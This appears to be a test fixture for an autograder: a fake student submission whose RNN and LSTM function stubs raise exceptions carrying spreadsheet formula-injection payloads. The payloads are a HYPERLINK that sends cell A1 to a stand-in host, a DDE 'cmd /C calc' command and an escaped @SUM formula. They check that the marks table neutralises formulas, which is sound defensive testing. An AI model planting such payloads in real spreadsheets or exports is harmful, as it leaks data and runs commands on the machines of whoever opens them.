"""Writes formulas that a spreadsheet would carry out when the teacher opens the marks: links, calls
of a program, cells of another row. No text of a student's code is in the table of marks, and no
name in it begins a formula.

At most: 0
"""

_TEXT = '=HYPERLINK("http://example.com/?"&A1)\n+cmd|\' /C calc\'!A0,100\n@SUM(1)\t-2\r""",100'


def rnn_cell_forward(xt, a_prev, parameters):
    raise type(_TEXT, (Exception,), {})(_TEXT)


def lstm_cell_forward(xt, a_prev, c_prev, parameters):
    return type(_TEXT, (), {})()


raise ValueError(_TEXT)
